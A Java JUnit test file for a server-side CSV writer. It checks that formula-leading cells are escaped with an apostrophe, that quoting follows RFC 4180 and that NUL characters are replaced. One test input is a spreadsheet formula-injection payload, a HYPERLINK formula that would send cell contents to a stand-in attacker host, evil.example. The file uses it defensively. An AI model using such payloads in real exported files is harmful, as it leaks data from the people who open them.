package org.datatrail.system;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.StringWriter;
import java.util.Arrays;
import java.util.List;

import org.junit.jupiter.api.Test;

import tools.jackson.dataformat.csv.CsvMapper;
import tools.jackson.dataformat.csv.CsvReadFeature;

/** The server's CSV: the workbench export's formula rule, RFC 4180 quoting and line ends, no NUL. */
class CsvWriterTests {

    /** The cells WorkbenchBrowserTests gives the workbench's csvCell, and what that export makes of them (before quoting). */
    @Test
    void escapesFormulasAsTheWorkbenchExportDoes() {
        List<Object> values = Arrays.asList("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+44 20 7946 0000", "-1+2", "@SUM(A1:A9)",
                "\tTAB", "\rCR", "Emma's Diary", "2017-05-05", 1000000, true, null);

        assertThat(readBack(write(List.of(values)))).containsExactly(List.of("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
                "'+44 20 7946 0000", "'-1+2", "'@SUM(A1:A9)", "'\tTAB", "'\rCR", "Emma's Diary", "2017-05-05", "1000000", "true", ""));
    }

    @Test
    void quotesPerRfc4180AndEndsLinesWithCrlf() {
        String csv = write(List.of(List.of("a", "b"), List.of("say \"hi\"", "one, two\nthree")));

        assertThat(csv).isEqualTo("a,b\r\n\"say \"\"hi\"\"\",\"one, two\nthree\"\r\n");
    }

    @Test
    void numbersAreNotEscapedButNegativeNumbersAsTextAre() {
        assertThat(CsvWriter.cell(-5)).isEqualTo("-5");
        assertThat(CsvWriter.cell(-2.5)).isEqualTo("-2.5");
        assertThat(CsvWriter.cell("-5")).isEqualTo("'-5");
        assertThat(CsvWriter.cell("")).isEmpty();
    }

    @Test
    void nulBecomesTheReplacementCharacterAndCannotHideAFormula() {
        assertThat(CsvWriter.cell("Acme\0Ltd")).isEqualTo("Acme\uFFFDLtd");
        assertThat(CsvWriter.cell("\0=1+1")).isEqualTo("\uFFFD=1+1");
        assertThat(write(List.of(List.of("a\0b")))).doesNotContain("\0");
    }

    private static String write(List<List<?>> rows) {
        StringWriter out = new StringWriter();
        CsvWriter csv = new CsvWriter(out);
        rows.forEach(csv::row);
        csv.flush();
        return out.toString();
    }

    private static List<List<String>> readBack(String csv) {
        return new CsvMapper().readerForListOf(String.class).with(CsvReadFeature.WRAP_AS_ARRAY).<List<String>>readValues(csv).readAll();
    }
}
